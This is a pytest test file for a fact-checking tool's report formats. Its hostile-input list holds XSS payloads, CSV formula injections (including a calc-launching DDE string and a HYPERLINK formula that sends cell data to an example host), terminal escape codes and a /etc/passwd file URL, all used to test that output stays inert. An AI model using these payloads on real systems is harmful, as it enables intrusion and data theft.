"""Reports: what each format shows, that hostile text is harmless in all of them, and that each reads back."""

import csv
import io
import json
import os
import re
from dataclasses import replace
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml.html import HTMLParser, document_fromstring
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin

from index.article import Citation, FactcheckError, cite, new_article
from qa.answer import Answer, Reason, Seconds, Statement, Tokens
from qa.checkworthy import Why
from qa.citations import State, recheck, saved_citations
from qa.claim import Verdict, Witness
from qa.differences import Difference, Sort, differences
from qa.quotations import Quotation
from qa.report import SCHEMA, answer_json, citation_from, citation_json, json_text
from qa.reports import Format, format_of, written
from qa.reports.content import IN_WORDS, NoSuchForm, Report, difference_in_words, numbers, report_of
from qa.reports.saving import save
from qa.review import Beyond, PassedOver, Reviewed
from qa.verify import Label, Support
from qa.visible import STEERING, visible

MADE = "2031-09-20T08:30:00Z"
FOR_ANSWERS = [one for one in Format if one is not Format.CLAIMREVIEW]

HOSTILE = [
    "<script>alert(1)</script></script></style></title><img src=x onerror=alert(1)>.",
    '"><a href="javascript:alert(1)" onclick="x">here</a> <!-- --> &lt;b&gt; &amp; &#x3c;.',
    "--> <!-- factcheck-qa/1: where each quote stands, for `qa verify` -->",
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\x1b]0;title\x07\x1b[31mred\x1b[0m \x9b31m \x08\x7f \r gone",
    "The bridge \u202ecost 31 million\u202c \u2066crowns\u2069.",
    "The har\u200bbour\ufeff \u2028 \u2029 bridge\U000e0041.",
    "![pixel](http://example.com/x.png) [link](javascript:alert(1)) `code` **bold** $x$ {{ 7*7 }} {% raw %} ~~no~~",
    "[^1]: “Another quote.” *Another article*, sentence 9",
    "# A heading that \\ * _ is none",
    "1. No list",
    "a, b; c\td \"e\" 'f' “g” ‘h’ |i|",
    "<ESC> and <U+202E> as the article itself has them",
    "\x00 \ud800 \ufffe \U0001f409",
]


def article_of(*sentences, title="The lighthouse at Skarn", source="/articles/skarn.txt", page_starts=()):
    return new_article(title=title, text="\n".join(sentences), source=source, page_starts=page_starts)


def cited(article, number):
    """The citation of a line of an article that was made of lines."""
    lines = article.text.split("\n")
    start = sum(len(line) + 1 for line in lines[: number - 1])
    end = start + len(lines[number - 1])
    place = (article.page_at(start), number, start, end, article.text[start:end], article.digest)
    return Citation(article.id, article.title, article.source, *place)


def answer_of(*statements, question="How high is the tower?", short="", nearest=(), reason=None):
    seconds = Seconds(0.1, 0.2, 0.3)
    confidence = 0.0 if reason else 0.9
    return Answer(question, short, statements, reason is not None, reason, confidence, nearest, seconds, Tokens(9, 9))


def verdict_of(claim, label=Label.SUPPORTED, backing=(), opposing=(), **more):
    shares = Support(0.9, 0.06, 0.04)
    sides = [tuple(Witness(one, 0.9) for one in side) for side in (backing, opposing)]
    return Verdict(claim, label, shares, *sides, more.pop("nearest", ()), 0.1, **more)


def report(*items, articles=()):
    return Report(items, {one.id: one for one in articles}, MADE)


TOWER = article_of(
    "The tower is 31 metres high.", "It was built in 1931.", "It is 13 metres high.", page_starts=(0, 20)
)
HIGH, BUILT, LOW = (cited(TOWER, number) for number in (1, 2, 3))
ANSWER = answer_of(
    Statement("The tower is 31 metres high.", (HIGH,), 0.93, quoted=True, against=(LOW,)),
    Statement("It dates from 1931.", (BUILT, HIGH), 0.81),
    short="31 metres",
    nearest=(HIGH,),
)
WITHHELD = answer_of(question="Who painted it?", nearest=(BUILT,), reason=Reason.NOT_SETTLED)
PARTS = (verdict_of("It is high.", backing=(HIGH,)), verdict_of("It is new.", Label.REFUTED, opposing=(BUILT,)))
QUOTATIONS = (
    Quotation("31 meters high", HIGH, "31 metres high"),
    Quotation("built in 1931", BUILT, "built in 1931"),
    Quotation("of solid gold", None, ""),
)
VERDICT = verdict_of(
    "The tower is high and new.",
    Label.CONFLICTING,
    (HIGH,),
    (LOW,),
    nearest=(HIGH,),
    parts=PARTS,
    quotations=QUOTATIONS,
)
UNSETTLED = verdict_of("Er spukt.", Label.NOT_ENOUGH_INFO, nearest=(LOW,), reason=Reason.NOT_ENGLISH)
UNKNOWN = verdict_of("It is so.", Label.NOT_ENOUGH_INFO)
PASSED_OVER = PassedOver(1, 0, 9, "Is it old?", Why.QUESTION)
OTHER_FIGURE = Difference(Sort.NUMBER, "13", "31", 6, 8)
DIFFERING = Reviewed(
    2,
    10,
    31,
    "It is 13 metres high.",
    verdict_of("The tower is 13 metres high.", Label.NOT_ENOUGH_INFO, nearest=(BUILT, HIGH)),
    (OTHER_FIGURE,),
    False,
    HIGH,
)
WRONG = Reviewed(3, 32, 50, "It is new.", verdict_of("It is new.", Label.REFUTED, opposing=(BUILT,)), (), True)
REVIEW = report(PASSED_OVER, DIFFERING, WRONG, articles=[TOWER])
WHOLE = report(ANSWER, VERDICT, WITHHELD, UNSETTLED, articles=[TOWER])


def hostile_report(text):
    """A report in which this text is everything that a text can be, and the article that it cites."""
    article = article_of(text, "It was built in 1931.", title=text, source=text)
    quote = cited(article, 1)
    verdict = verdict_of(text, backing=(quote,), quotations=(Quotation(text, quote, text),), parts=(verdict_of(text),))
    answer = answer_of(Statement(text, (quote,), 0.9), question=text, short=text)
    nearest = answer_of(question=text, nearest=(cited(article, 2),), reason=Reason.NOT_SETTLED)
    differing = Reviewed(2, 0, 9, text, UNKNOWN, (Difference(Sort.WORD, text, text, 0, len(text)),), False, quote)
    passed_over = PassedOver(1, 0, 9, text, Why.OPINION)
    return report(answer, verdict, nearest, passed_over, differing, articles=[article]), quote


def page(text):
    return document_fromstring(text.encode(), parser=HTMLParser(encoding="utf-8"))


def texts(page, path):
    return [one.text_content() for one in page.xpath(path)]


def rows(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# Reading back


@pytest.mark.parametrize("format", Format)
def test_every_format_reads_back_what_is_cited_and_not_what_is_near(format):
    # The place in a ClaimReview has an address in the stead of a path.
    found = {(one.article_id, one.sentence, one.page, one.quote) for one in saved_citations(written(WHOLE, format))}
    assert found == {(one.article_id, one.sentence, one.page, one.quote) for one in (HIGH, BUILT, LOW)}


@pytest.mark.parametrize("format", FOR_ANSWERS)
def test_a_report_of_an_abstention_cites_nothing(format):
    assert saved_citations(written(report(WITHHELD, articles=[TOWER]), format)) == []


@pytest.mark.parametrize("format", Format)
@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_quote_reads_back_as_it_was_or_as_it_is_shown(format, text):
    hostile, quote = hostile_report(text)
    [found] = saved_citations(written(hostile, format))
    assert found.quote in (quote.quote, visible(quote.quote))
    assert (found.start, found.end, found.digest) == (quote.start, quote.end, quote.digest)


@given(st.text(st.characters(exclude_characters="\n"), min_size=1))
def test_any_text_reads_back_from_any_format(text):
    hostile, _ = hostile_report(text)
    for format in Format:
        [found] = saved_citations(written(hostile, format))
        assert found.quote in (text, visible(text)), format


@pytest.mark.parametrize("format", Format)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_report_steers_a_terminal_or_hides_itself(format, text):
    hostile, _ = hostile_report(text)
    assert not STEERING.search(written(hostile, format).removeprefix("\ufeff"))


# Where an article is on the web


def links_of(article):
    """What each format names as the article's place."""
    whole = report(verdict_of("High.", backing=(cited(article, 1),)), articles=[article])
    [item] = json.loads(written(whole, Format.ANNOTATION))["items"]
    [quotation] = json.loads(written(whole, Format.CLAIMREVIEW))["citation"]
    return (
        item["target"]["source"]["id"],
        quotation["isPartOf"]["url"],
        page(written(whole, Format.HTML)).xpath("//aside//a[@rel]/@href"),
        rendered(written(whole, Format.MARKDOWN)).xpath("//li//a[not(@class)]/@href"),
    )


def test_a_saved_page_is_named_by_its_own_address_beside_its_file():
    address = "https://skarn.example/tower?a=b&c=d"
    saved_page = replace(TOWER, address=address)
    assert links_of(saved_page) == (address, address, [address], [address])
    whole = written(report(VERDICT, articles=[saved_page]), Format.HTML)
    assert texts(page(whole), "//p[@class='source']") == [f"{TOWER.source} {address}"]


def test_where_a_page_was_fetched_counts_for_more_than_what_it_says():
    fetched = replace(article_of("High.", source="https://a.example/"), address="https://b.example/")
    assert links_of(fetched) == (
        "https://a.example/",
        "https://a.example/",
        ["https://a.example/"],
        ["https://a.example/"],
    )


def test_the_address_of_an_article_that_has_changed_is_not_told():
    changed = replace(TOWER, address="https://skarn.example/", digest="0" * 64)
    assert "skarn.example" not in "".join(written(report(VERDICT, articles=[changed]), format) for format in Format)


@pytest.mark.parametrize("text", [one for one in HOSTILE if not one.startswith("https://")])
def test_a_hostile_address_that_a_library_was_given_is_harmless(text):
    assert links_of(replace(TOWER, address=text)) == links_of(TOWER)
    for link in (link for links in links_of(replace(TOWER, address=f"https://a.example/{text}"))[2:] for link in links):
        assert (urlsplit(link).netloc, re.search(r"[^!-~]|[<>\"\\\\]", link)) == ("a.example", None)


# The review of a draft


@pytest.mark.parametrize("format", Format)
def test_a_review_cites_the_sentence_that_a_statement_differs_from(format):
    found = saved_citations(written(REVIEW, format))
    assert [(one.sentence, one.quote) for one in found] == [(1, HIGH.quote), (2, BUILT.quote)]


@pytest.mark.parametrize("format", Format)
def test_every_format_tells_that_a_statement_differs_and_in_which_words(format):
    text = written(REVIEW, format)
    assert "differs" in text.lower()
    assert ("draft: 13, source: 31" in text) or ('"draft": "13", "source": "31"' in text)


@pytest.mark.parametrize(
    ("statement", "source", "told"),
    [
        ("The tower is not open.", "The tower is open.", "only the draft says “not”"),
        ("The tower will open.", "The tower will never open.", "only the source says “never”"),
        ("The tower was open.", "The tower wasn't open.", "only the source says “wasn't”"),
    ],
)
def test_a_denial_on_one_side_is_told_by_its_word(statement, source, told):
    assert [difference_in_words(one) for one in differences(statement, source) if one.sort is Sort.NEGATION] == [told]


def test_what_differs_is_worse_than_what_is_open_and_better_than_a_conflict():
    assert DIFFERING.counts_as is Beyond.DIFFERS
    assert replace(DIFFERING, differences=()).counts_as is Label.NOT_ENOUGH_INFO
    assert replace(DIFFERING, verdict=WRONG.verdict).counts_as is Label.REFUTED


def test_markdown_tells_a_draft_sentence_by_sentence():
    text = written(REVIEW, Format.MARKDOWN)
    for words in (
        "2 statements: 1 refuted, 1 differs; 1 sentence passed over.",
        "*Passed over, a question:* Is it old?",
        "## Sentence 2: It is 13 metres high.",
        "Read as: The tower is 13 metres high.",
        "- draft: 13, source: 31",
        "Differs from: [^1]",
    ):
        assert words in text


def test_the_page_shows_the_draft_with_the_differing_words_and_what_was_passed_over():
    found = page(written(REVIEW, Format.HTML))
    assert texts(found, "//p[@class='passed']") == ["Passed over, a question Is it old?"]
    assert texts(found, "//h1")[0] == "Sentence 2 It is 13 metres high."
    assert texts(found, "//h1/em[@class='differs']") == ["13"]
    assert texts(found, "//p[@class='label differs']") == [IN_WORDS[Beyond.DIFFERS]]
    assert found.xpath("//p[@class='side differs']/a/@href") == ["#s1"]


def test_the_table_of_a_review_has_each_sentence_with_what_it_counts_as():
    table = rows(written(REVIEW, Format.CSV))
    assert [(one["kind"], one["asked"], one["outcome"], one["side"]) for one in table] == [
        ("passed over", "Is it old?", "", ""),
        ("claim", "It is 13 metres high.", "differs", "differs"),
        ("claim", "It is new.", "refuted", "against"),
    ]
    assert [one["note"] for one in table] == ["a question", "draft: 13, source: 31", ""]


def test_a_difference_is_no_rating():
    first, second = json.loads(written(REVIEW, Format.CLAIMREVIEW))["@graph"]
    assert first["claimReviewed"] == "It is 13 metres high."
    assert first["itemReviewed"]["text"] == "The tower is 13 metres high."
    assert first["reviewRating"] == {
        "@type": "Rating",
        "alternateName": IN_WORDS[Beyond.DIFFERS],
        "ratingExplanation": "supported 0.90, refuted 0.06, not enough information 0.04",
    }
    assert second["reviewRating"]["ratingValue"] == 1


# JSON


def test_json_has_one_record_a_line_as_the_json_option_prints_it():
    lines = written(report(ANSWER, VERDICT), Format.JSON).splitlines()
    assert json.loads(lines[0]) == answer_json(ANSWER)
    assert json.loads(lines[1])["claim"] == VERDICT.claim


@pytest.mark.parametrize("text", HOSTILE)
def test_json_keeps_every_character(text):
    assert json.loads(json_text({"quote": text})) == {"quote": text}


def test_a_citation_comes_back_from_its_json():
    assert [citation_from(citation_json(one)) for one in (HIGH, BUILT)] == [HIGH, BUILT]


# Markdown


def rendered(text):
    return page(MarkdownIt("commonmark", {"html": True}).use(footnote_plugin).render(text))


def test_markdown_has_a_footnote_for_each_cited_sentence():
    notes = texts(rendered(written(WHOLE, Format.MARKDOWN)), "//li[@class='footnote-item']/p")
    assert len(notes) == 3
    assert notes[0].startswith("“The tower is 31 metres high.” The lighthouse at Skarn, sentence 1, page 1 (skarn:1)")


def test_markdown_tells_the_whole_report():
    text = written(WHOLE, Format.MARKDOWN)
    for words in (
        "## Question: How high is the tower?",
        "**31 metres**",
        "The tower is 31 metres high. [^1] (in the source's own words)",
        "Contradicted by [^2]",
        "**Conflicting: sources stand on both sides.** Supported 0.90",
        "- It is new. **Refuted** (against [^3])",
        "- “31 meters high” was changed; the source has “31 metres high” [^1]",
        "- “of solid gold” is not in the sources",
        "The sources do not say: sentences come close, but none of them settles it.",
        "The nearest sentences, which are not cited:",
        "**Not enough information in the sources.** Supported 0.90",
        "The reason: the verifier was trained on English",
    ):
        assert words in text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text_in_markdown(text):
    found = rendered(written(hostile_report(text)[0], Format.MARKDOWN))
    expected = {"html", "body", "div", "h1", "h2", "p", "strong", "ul", "li", "em", "sup", "a", "hr", "section", "ol"}
    assert {one.tag for one in found.iter() if isinstance(one.tag, str)} <= expected
    assert all(one.get("href").startswith("#fn") for one in found.iter("a"))
    shown = " ".join(visible(text).split())
    assert shown in " ".join(found.text_content().split())


# HTML


def test_the_page_shows_the_quotes_and_lights_them_in_their_article():
    found = page(written(WHOLE, Format.HTML))
    assert texts(found, "//main/section[2]//ol//q") == [HIGH.quote, LOW.quote, BUILT.quote]
    assert texts(found, "//aside//mark[not(@class)]") == [HIGH.quote, BUILT.quote, LOW.quote]


def test_every_mark_leads_to_its_sentence_and_every_sentence_back():
    found = page(written(WHOLE, Format.HTML))
    anchors = found.xpath("//@id")
    assert len(set(anchors)) == len(anchors)
    assert {link.removeprefix("#") for link in found.xpath("//a/@href")} == set(anchors)
    for number, quote in enumerate((HIGH, LOW, BUILT), 1):
        [mark] = found.xpath(f"//mark[@id='s{number}']")
        assert mark.text_content() == quote.quote
        assert mark.getnext().get("href") == f"#q{number}"
        assert texts(found, f"//li[@id='q{number}']/q") == [quote.quote]


def test_the_article_stands_in_the_page_word_for_word():
    found = page(written(WHOLE, Format.HTML))
    for link in found.xpath("//a[@class='back']"):
        link.drop_tree()
    assert texts(found, "//aside/article/p[not(@class)]") == TOWER.text.split("\n")


def test_the_page_asks_for_nothing_and_allows_only_its_own_style_and_script():
    found = page(written(WHOLE, Format.HTML))
    [policy] = found.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert not {"unsafe-inline", "unsafe-eval", "http:", "https:", "data:", "*"} & set(re.split(r"[ ;']+", policy))
    assert not found.xpath("//@src | //@srcset | //@style | //link | //img | //iframe | //form | //object | //base")
    assert "url(" not in found.xpath("//style")[0].text
    assert "@import" not in found.xpath("//style")[0].text


def test_the_policy_has_the_digests_of_the_style_and_the_script():
    from base64 import b64encode
    from hashlib import sha256

    text = written(WHOLE, Format.HTML)
    for name in ("style", "script"):
        [content] = re.findall(f"<{name}>(.*?)</{name}>", text, re.DOTALL)
        assert f"{name}-src 'sha256-{b64encode(sha256(content.encode()).digest()).decode()}'" in text.replace(
            "&#39;", "'"
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text_in_the_page(text):
    harmless = page(written(hostile_report("A plain sentence.")[0], Format.HTML))
    found = page(written(hostile_report(text)[0], Format.HTML))
    assert [one.tag for one in found.iter()] == [one.tag for one in harmless.iter()]
    assert {name for one in found.iter() for name in one.keys()} == {n for one in harmless.iter() for n in one.keys()}  # noqa: SIM118
    assert all(link.startswith("#") for link in found.xpath("//@href"))
    assert texts(found, "//q")[0] == visible(text)
    alone = page(written(report(answer_of(question=text, reason=Reason.NOT_SETTLED)), Format.HTML))
    assert alone.xpath("//title")[0].text == f"Question: {visible(text)}"


def test_an_article_of_the_web_is_linked_and_any_other_source_is_only_named():
    for source, links in (("https://example.com/a b?c=<d>", 1), ("javascript:alert(1)", 0), ("file:///etc/passwd", 0)):
        article = article_of("It is high.", source=source)
        text = written(report(verdict_of("High.", backing=(cited(article, 1),)), articles=[article]), Format.HTML)
        found = page(text).xpath("//aside//p[@class='source']/a/@href")
        assert len(found) == links
        assert [urlsplit(one).scheme for one in found] == ["https"] * links


def test_a_sentence_that_two_citations_overlap_in_is_lit_once_for_both():
    longer = replace(BUILT, start=HIGH.start, quote=TOWER.text[HIGH.start : BUILT.end])
    renamed = replace(HIGH, title="The tower")
    verdict = verdict_of("It is old.", backing=(HIGH, longer, renamed))
    found = page(written(report(verdict, articles=[TOWER]), Format.HTML))
    assert texts(found, "//mark") == [HIGH.quote]
    assert set(found.xpath("//a[@class='mark']/@href")) == {"#s1"}


@pytest.mark.parametrize(
    ("articles", "said"),
    [([], "no longer in the library"), ([article_of("Rewritten.")], "has changed since it was cited")],
)
def test_the_page_still_shows_the_quote_of_an_article_that_is_gone_or_changed(articles, said):
    found = page(written(report(ANSWER, articles=articles), Format.HTML))
    assert texts(found, "//ol//q") == [HIGH.quote, LOW.quote, BUILT.quote]
    assert said in texts(found, "//li[@id='q1']")[0]
    assert not found.xpath("//mark")
    assert set(found.xpath("//a[@class='mark']/@href")) == {"#q1", "#q2", "#q3"}


# CSV


def test_the_table_has_a_row_for_each_statement_claim_part_and_abstention():
    table = rows(written(WHOLE, Format.CSV))
    assert [(one["item"], one["kind"], one["outcome"]) for one in table] == [
        ("1", "statement", "conflicting"),
        ("1", "statement", "supported"),
        ("2", "claim", "conflicting"),
        ("2", "part", "supported"),
        ("2", "part", "refuted"),
        ("3", "abstention", "not_enough_info"),
        ("4", "claim", "not_enough_info"),
    ]
    assert table[1]["quote"].split("\n") == [BUILT.quote, HIGH.quote]
    assert table[0]["side"].split("\n") == ["for", "against"]
    assert [one["note"] for one in table[-2:]] == [Reason.NOT_SETTLED, Reason.NOT_ENGLISH]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_the_table_is_a_formula(text):
    for row in rows(written(hostile_report(text)[0], Format.CSV)):
        for cell in row.values():
            assert not re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]", cell), cell


def test_a_table_that_a_spreadsheet_saved_with_semicolons_reads_back():
    table = list(csv.reader(io.StringIO(written(WHOLE, Format.CSV).removeprefix("\ufeff"))))
    saved = io.StringIO()
    csv.writer(saved, delimiter=";").writerows(table)
    assert set(saved_citations(saved.getvalue())) == {HIGH, BUILT, LOW}


# Web Annotation. The terms are those of http://www.w3.org/ns/anno.jsonld, and of schema.org under its prefix there.

ANNOTATION = {
    "AnnotationPage": {"@context", "id", "items"},
    "Annotation": {"id", "motivation", "created", "generator", "body", "target"},
    "Software": {"name"},
    "TextualBody": {"value", "format", "purpose"},
    "SpecificResource": {"source", "selector", "schema:position", "schema:pageStart"},
    "Text": {"id", "schema:identifier", "schema:name", "schema:isBasedOn", "schema:sha256"},
    "TextQuoteSelector": {"exact", "prefix", "suffix"},
    "TextPositionSelector": {"start", "end"},
}
MOTIVATIONS = set(
    "assessing bookmarking classifying commenting describing editing highlighting identifying linking moderating"
    " questioning replying tagging".split()
)


def nodes(value):
    """Every object in a JSON-LD document."""
    if isinstance(value, dict):
        yield value
        value = list(value.values())
    if isinstance(value, list):
        for one in value:
            yield from nodes(one)


def test_annotations_use_the_published_terms():
    for node in nodes(json.loads(written(WHOLE, Format.ANNOTATION))):
        assert set(node) - {"type"} <= ANNOTATION[node["type"]]
        assert {node.get("motivation", "linking"), node.get("purpose", "linking")} <= MOTIVATIONS


def test_each_annotation_has_a_name_of_its_own_a_body_and_a_target():
    items = json.loads(written(WHOLE, Format.ANNOTATION))["items"]
    assert len({one["id"] for one in items}) == len(items) == 10
    assert all(re.fullmatch(r"urn:uuid:[0-9a-f-]{36}", one["id"]) for one in items)
    assert all(one["body"] and one["target"]["source"]["id"] == "file:///articles/skarn.txt" for one in items)


def test_the_selectors_of_an_annotation_select_the_same_characters():
    for one in json.loads(written(WHOLE, Format.ANNOTATION))["items"]:
        quote, position = one["target"]["selector"]
        assert TOWER.text[position["start"] : position["end"]] == quote["exact"]
        assert quote["prefix"] + quote["exact"] + quote["suffix"] in TOWER.text


def test_an_annotation_of_a_changed_article_has_the_quote_alone():
    [first, *_] = json.loads(written(report(ANSWER), Format.ANNOTATION))["items"]
    assert set(first["target"]["selector"][0]) == {"type", "exact"}


def test_an_annotation_tells_the_statement_and_the_side():
    [_, against, *_] = json.loads(written(report(ANSWER, articles=[TOWER]), Format.ANNOTATION))["items"]
    assert [(one["purpose"], one["value"]) for one in against["body"]] == [
        ("questioning", ANSWER.question),
        ("commenting", ANSWER.statements[0].text),
        ("tagging", "against"),
    ]


# ClaimReview. Of each type those properties, its own or inherited, that https://schema.org lists and a report uses.

SCHEMA_ORG = {
    "ClaimReview": set(
        "@context @graph dateCreated claimReviewed itemReviewed reviewRating reviewBody citation hasPart".split()
    ),
    "Claim": {"text"},
    "Rating": {"alternateName", "ratingExplanation", "ratingValue", "worstRating", "bestRating"},
    "Quotation": {"text", "name", "description", "position", "identifier", "isPartOf"},
    "PropertyValue": {"propertyID", "value"},
    "Article": {"identifier", "headline", "url", "encoding"},
    "MediaObject": {"encodingFormat", "sha256"},
}


def test_claim_reviews_use_the_published_terms():
    graph = json.loads(written(WHOLE, Format.CLAIMREVIEW))["@graph"]
    assert [one["claimReviewed"] for one in graph] == [VERDICT.claim, UNSETTLED.claim]
    for node in nodes(graph):
        assert set(node) - {"@type"} <= SCHEMA_ORG[node["@type"]]


def test_a_claim_review_rates_from_1_to_5_and_leaves_what_is_open_unrated():
    labels = {Label.REFUTED: 1, Label.CONFLICTING: 3, Label.SUPPORTED: 5, Label.NOT_ENOUGH_INFO: None}
    for label, value in labels.items():
        review = json.loads(written(report(verdict_of("It is high.", label)), Format.CLAIMREVIEW))
        assert review["reviewRating"].get("ratingValue") == value
        assert review["reviewRating"]["alternateName"]


def test_a_claim_review_has_its_parts_and_each_its_own_quotes():
    review = json.loads(written(report(VERDICT, articles=[TOWER]), Format.CLAIMREVIEW))
    assert [one["claimReviewed"] for one in review["hasPart"]] == ["It is high.", "It is new."]
    assert review["hasPart"][1]["citation"][0]["description"] == "against the claim, probability 0.90"


def test_an_answer_has_no_claim_review():
    with pytest.raises(NoSuchForm, match="an answer reviews none"):
        written(report(ANSWER), Format.CLAIMREVIEW)


@pytest.mark.parametrize("format", [Format.ANNOTATION, Format.CLAIMREVIEW])
@pytest.mark.parametrize("text", HOSTILE)
def test_linked_data_can_stand_in_the_script_element_of_a_page(format, text):
    linked = written(hostile_report(text)[0], format)
    [script] = page(f"<script type='application/ld+json'>{linked}</script><p>").xpath("//script")
    assert json.loads(script.text) == json.loads(linked)


# The library


def test_a_report_holds_the_articles_that_it_cites_or_shows(samples):
    article = samples.article("storm-review-sirens")
    citation = cite(article, samples.sentences(article)[5])
    made = datetime(2031, 9, 20, 8, 30, tzinfo=UTC)
    found = report_of([verdict_of("3,100 people left.", backing=(citation,)), ANSWER], samples, "Storm", made)
    assert (dict(found.articles), found.made, found.title) == ({article.id: article}, MADE, "Storm")
    assert list(numbers(found)) == [citation, HIGH, LOW, BUILT]


def test_a_report_of_the_samples_holds_in_every_format_until_its_article_goes(library):
    article = library.article("storm-review-sirens")
    citation = cite(article, library.sentences(article)[5])
    found = report_of([verdict_of("3,100 people left.", backing=(citation,))], library)
    reports = [written(found, format) for format in Format]
    assert [[one.state for one in recheck(text, library)] for text in reports] == [[State.HOLDS]] * 6
    library.remove(article.id)
    assert [[one.state for one in recheck(text, library)] for text in reports] == [[State.ARTICLE_GONE]] * 6


# Files


def test_a_file_is_written_whole_and_keeps_its_rights(tmp_path):
    file = tmp_path / "report.md"
    file.write_text("old")
    file.chmod(0o640)
    save("new “quote”", file)
    assert file.read_text("utf-8") == "new “quote”"
    assert file.stat().st_mode & 0o777 == 0o640
    assert not list(tmp_path.glob(".qa-*"))


def test_a_file_that_can_not_be_written_stays_as_it_was(tmp_path, monkeypatch):
    file = tmp_path / "report.md"
    file.write_text("old")

    def full(descriptor):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(FactcheckError, match=r"report\.md: can't be written \(No space left on device\)"):
        save("new", file)
    assert file.read_text() == "old"
    assert not list(tmp_path.glob(".qa-*"))


def test_a_report_can_go_into_a_pipe_and_through_a_link(tmp_path):
    (tmp_path / "real.md").write_text("old")
    (tmp_path / "link.md").symlink_to(tmp_path / "real.md")
    save("new", tmp_path / "link.md")
    assert (tmp_path / "real.md").read_text() == "new"
    assert (tmp_path / "link.md").is_symlink()
    read, write = os.pipe()
    save("new", tmp_path.__class__(f"/dev/fd/{write}"))
    assert os.read(read, 10) == b"new"


def test_a_folder_is_no_file_to_write_to(tmp_path):
    with pytest.raises(FactcheckError, match="can't be written"):
        save("new", tmp_path)


@pytest.mark.parametrize(
    ("name", "format"), [("a.md", "markdown"), ("a.HTML", "html"), ("a.csv", "csv"), ("a.json", "json"), ("a.x", None)]
)
def test_the_ending_of_a_file_names_its_format(tmp_path, name, format):
    assert format_of(tmp_path / name) == format


# The command


def test_check_writes_a_page_that_verify_reads(qa, shelf, tmp_path):
    file = tmp_path / "verdict.html"
    claim = "The harbour bridge was shut for 19 hours during Storm Ottilie."
    run = qa("check", claim, "--library", shelf, "--output", file)
    assert (run.status, run.out, run.err) == (0, "", f"written to {file}\n")
    assert texts(page(file.read_text("utf-8")), "//h1") == [f"Claim {claim}"]
    run = qa("verify", file, "--library", shelf)
    assert run.status == 0
    assert "hold" in run.err


def test_format_json_is_the_same_as_json(qa, shelf):
    runs = [qa("check", "The bridge is red.", "--library", shelf, *more) for more in (["--json"], ["--format", "json"])]
    first, second = (json.loads(run.out) for run in runs)
    assert first | {"seconds": 0} == second | {"seconds": 0}
    assert first["schema"] == SCHEMA


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["check", "It is.", "--output", "report.doc"], "names no format"),
        (["check", "It is.", "--output", "no/such/folder/report.md"], "no folder"),
        (["check", "It is.", "--json", "--format", "csv"], "--json is --format json"),
        (["check", "--batch", "-", "--format", "html"], "--batch writes JSON Lines"),
        (["check", "--batch", "-", "--output", "report.json"], "--batch writes JSON Lines"),
        (["check", "It is.", "--format", "pdf"], "pdf"),
        (["ask", "Is it?", "--format", "claimreview"], "an answer reviews none"),
    ],
)
def test_a_report_that_can_not_be_is_refused_before_anything_is_read(qa, shelf, arguments, said):
    run = qa(*arguments, "--library", shelf)
    assert run.status == 2
    assert said in " ".join(re.sub(r"[│╭╮╰╯─]", " ", run.err).split())
